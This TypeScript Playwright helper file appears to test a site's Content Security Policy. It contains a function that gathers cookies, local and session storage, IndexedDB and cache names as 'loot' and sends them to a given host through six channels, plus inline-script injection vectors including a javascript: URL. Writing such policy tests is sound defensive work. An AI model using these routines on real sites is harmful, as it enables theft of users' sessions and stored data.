import type { Page } from '@playwright/test';

export interface Loot {
  cookies: string;
  /** The same cookies by the newer interface, names and values. */
  cookieStore: string;
  /** Everything that the page keeps in this browser, keys and values. */
  storage: string;
  databases: string[];
  caches: string[];
}

/** All that a script in the page can read of what the browser keeps. */
export const readEverything = (page: Page): Promise<Loot> =>
  page.evaluate(async () => {
    const store = (globalThis as unknown as { cookieStore: { getAll: () => Promise<unknown[]> } }).cookieStore;
    return {
      cookies: document.cookie,
      cookieStore: JSON.stringify(await store.getAll()),
      storage: JSON.stringify([{ ...localStorage }, { ...sessionStorage }]),
      databases: (await indexedDB.databases()).map(({ name }) => name ?? ''),
      caches: await caches.keys(),
    };
  });

/** How a script sends something away, in the order of the attempts, and which part of the policy answers for it. */
export const waysOut = {
  'GET /fetch': 'connect-src',
  'POST /beacon': 'connect-src',
  'UPGRADE /socket': 'connect-src',
  'GET /image': 'img-src',
  'GET /script': 'script-src-elem',
  'POST /form': 'form-action',
} as const;

/** Sends `loot` to the host in every way. Resolves when all attempts were made, whatever became of them. */
export const sendAway = (page: Page, host: string, loot: string): Promise<void> =>
  page.evaluate(
    async ([origin, carried]) => {
      const to = (way: string): string => `${origin}/${way}?loot=${encodeURIComponent(carried)}`;
      const settled = (element: HTMLImageElement | HTMLScriptElement): Promise<void> =>
        new Promise((resolve) => {
          element.addEventListener('load', () => resolve());
          element.addEventListener('error', () => resolve());
        });
      await fetch(to('fetch'), { mode: 'no-cors' }).catch(() => {
        // Whether it was refused is seen at the host and in the page's policy events.
      });
      navigator.sendBeacon(to('beacon'), carried);
      try {
        const socket = new WebSocket(to('socket').replace('http', 'ws'));
        await new Promise((resolve) => {
          socket.addEventListener('error', resolve);
          socket.addEventListener('close', resolve);
        });
      } catch {
        // A refused socket throws in some browsers and fails in others; both are an end of the attempt.
      }
      const image = new Image();
      const imageSettled = settled(image);
      image.src = to('image');
      await imageSettled;
      const script = document.createElement('script');
      const scriptSettled = settled(script);
      script.src = to('script');
      document.head.append(script);
      await scriptSettled;
      const frame = document.createElement('iframe');
      frame.name = 'out-of-sight';
      const form = Object.assign(document.createElement('form'), { method: 'post', action: to('form'), target: frame.name });
      document.body.append(frame, form);
      form.submit();
    },
    [host, loot] as const,
  );

/** Puts code into the page as markup injection would: an element without the nonce, and an attribute. Answers what of it ran. */
export const runInline = (page: Page): Promise<string[]> =>
  page.evaluate(async () => {
    const ran = (): string[] => (document.documentElement.dataset['ran'] ?? '').split(' ').filter(Boolean);
    const note = (name: string): string => `document.documentElement.dataset.ran = (document.documentElement.dataset.ran ?? '') + ' ${name}'`;
    const script = document.createElement('script');
    script.textContent = note('element');
    document.body.append(script);
    const button = document.createElement('button');
    button.setAttribute('onclick', note('attribute'));
    document.body.append(button);
    button.click();
    const link = document.createElement('a');
    link.href = `javascript:void (${note('address')})`;
    document.body.append(link);
    link.click();
    await new Promise((resolve) => setTimeout(resolve, 100));
    return ran();
  });

/** From now on the page remembers what its policy refused. */
export const watchPolicy = (page: Page): Promise<void> =>
  page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(globalThis, { refused });
    document.addEventListener('securitypolicyviolation', ({ disposition, effectiveDirective, blockedURI }) =>
      refused.push(`${disposition} ${effectiveDirective} ${blockedURI.split('?')[0] ?? ''}`),
    );
  });

/** The refusals so far, as `enforce directive what`. */
export const refusals = (page: Page): Promise<string[]> => page.evaluate(() => [...(globalThis as unknown as { refused: string[] }).refused]);
